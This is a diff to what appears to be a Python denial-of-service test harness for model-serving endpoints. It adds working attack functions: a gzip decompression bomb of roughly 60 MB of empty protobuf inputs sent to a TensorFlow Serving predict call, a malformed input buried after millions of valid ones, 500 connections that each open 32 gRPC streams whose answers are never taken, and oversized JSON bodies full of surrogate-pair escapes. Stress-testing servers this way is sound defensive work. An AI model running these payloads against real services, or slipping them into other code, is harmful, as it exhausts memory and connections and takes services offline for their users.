@@ -593,6 +593,39 @@ def watches_without_a_message(target: Target) -> str:
     return _half_open(target, 4, 100, "/grpc.health.v1.Health/Watch")
 
 
+@attack("grpc", threads=4)
+def a_group_before_many_inputs(target: Target) -> str:
+    """59 KB: an unknown group, which parsers skip, and 60 MB of inputs without name and value."""
+    return _send_gzip(target, _PREDICT, _gzip_of_inputs(b"\x7b\x7c", b""))
+
+
+@attack("grpc", threads=4)
+def many_inputs_before_a_malformed_one(target: Target) -> str:
+    """Parsers make the others before they come to it."""
+    return _send_gzip(target, _PREDICT, _gzip_of_inputs(b"", b"\x12\x01\xff"))
+
+
+@functools.cache
+def _gzip_of_inputs(before: bytes, behind: bytes) -> bytes:
+    return gzip.compress(before + b"\x12\0" * (29 << 20) + behind)
+
+
+@attack("grpc", threads=1)
+def statuses_that_nobody_takes(target: Target) -> str:
+    """32 calls of each of 500 connections, none of whose small answers may be sent."""
+    opened = [Connection(target.address, takes_messages=False) for _ in range(500)]
+    data = bombs.part(1, bombs.part(1, target.model.encode()))
+    for each in opened:
+        for _ in range(32):
+            stream = each.begin("/tensorflow.serving.ModelService/GetModelStatus")
+            each.send(stream, b"\0" + struct.pack(">I", len(data)) + data)
+        time.sleep(0.004)  # or it would be a flood of calls, which is another attack
+    time.sleep(2)
+    for each in opened:
+        each.close()
+    return "untaken"
+
+
 @attack("grpc", threads=1)
 def watches_that_take_nothing(target: Target) -> str:
     opened = [Connection(target.address, takes_messages=False) for _ in range(4)]
@@ -722,6 +755,11 @@ def many_keys(target: Target) -> str:
 @attack("json")
 def surrogates(target: Target) -> str:
     return target.post(_rows('["' + "\\ud800" * 1_000_000 + '"]'))
+
+
+@attack("json")
+def surrogate_pairs(target: Target) -> str:
+    return target.post(_rows('["' + "\\ud83d\\ude00" * 1_600_000 + '"]'))
 
 
 @attack("json")
